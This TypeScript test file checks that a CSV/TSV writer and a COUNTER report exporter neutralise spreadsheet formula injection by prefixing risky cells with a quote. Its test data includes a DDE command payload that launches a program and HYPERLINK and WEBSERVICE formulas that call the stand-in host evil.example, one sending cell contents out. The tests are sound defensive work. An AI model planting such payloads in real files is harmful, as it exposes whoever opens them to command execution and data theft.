import { createEventWriter, formatCsvCell, formatTsvCell, type OutputFormat } from './index.js';
import { formatCounterCsv } from '../counter/counter-aggregator.js';
import type { CounterReport } from '@sillage/shared-types';

/** Issue 19, item 7: a cell a spreadsheet would run as a formula is written as text. */
function write(format: OutputFormat, values: string[], rawValues?: boolean): string[] {
  const chunks: string[] = [];
  const writer = createEventWriter({
    format,
    columns: ['unitid'],
    sink: (chunk) => chunks.push(chunk),
    ...(rawValues === undefined ? {} : { rawValues }),
  });
  for (const value of values) {
    writer.write({ unitid: value }, 'raw');
  }
  writer.end();
  return chunks.join('').split('\n').slice(1, -1);
}

const HOSTILE = [
  "=cmd|'/Ccalc'!A0//",
  '+SUM(1+1)',
  '-2+3',
  '@SUM(A1:A2)',
  '=HYPERLINK("http://evil.example","x")',
  // Long enough to take the writer's long-cell path, and non-Latin-1.
  '=WEBSERVICE("http://evil.example/?d="&A1&A2&A3)',
  '=ünicode()',
];

describe('formula injection in CSV and TSV results', () => {
  it.each<OutputFormat>(['csv', 'tsv'])(
    'prefixes formula-like cells with a quote (%s)',
    (format) => {
      const rows = write(format, HOSTILE);
      expect(rows).toHaveLength(HOSTILE.length);
      for (const row of rows) {
        // Quoted cells (a `;` or `"` inside) start with `"'`, others with `'`.
        expect(row).toMatch(/^"?'[=+\-@]/);
      }
      expect(rows[0]).toBe("'=cmd|'/Ccalc'!A0//");
    },
  );

  it('prefixes a value that becomes formula-like once trimmed, as the cell is written', () => {
    expect(write('csv', ['\t=1+1', '\r@x', ' -a'])).toEqual(["'=1+1", "'@x", "'-a"]);
    expect(formatTsvCell(' =1+1 ')).toBe("'=1+1");
    expect(formatTsvCell('\t=1+1')).toBe('"\'=1+1"');
  });

  it('keeps plain numbers and a lone dash, which no spreadsheet runs', () => {
    const values = ['-33.8688', '+1', '-0', '-', '1234-5678', 'a=b', '2013-03-12'];
    expect(write('csv', values)).toEqual(values);
    expect(write('tsv', values)).toEqual(values);
  });

  it('keeps every value as logged with CSV-Raw-Values (rawValues)', () => {
    expect(write('csv', ["=cmd|'/Ccalc'!A0", '@x'], true)).toEqual(["=cmd|'/Ccalc'!A0", '@x']);
    expect(formatCsvCell('=1+1', true)).toBe('=1+1');
  });

  it('neutralises the cells of counter.csv too', () => {
    const report = {
      rows: [
        {
          platform: 'npg',
          platform_name: 'Nature',
          publication_title: '=HYPERLINK("http://evil.example")',
          print_identifier: '',
          online_identifier: '@x',
          data_type: 'Journal',
          month: '2013-03',
          metrics: {},
        },
      ],
    } as unknown as CounterReport;
    const line = formatCounterCsv(report).split('\n')[1] ?? '';
    expect(line).toContain('"\'=HYPERLINK(""http://evil.example"")"');
    expect(line).toContain(";'@x;");
    expect(formatCounterCsv(report, true).split('\n')[1]).toContain(';@x;');
  });
});
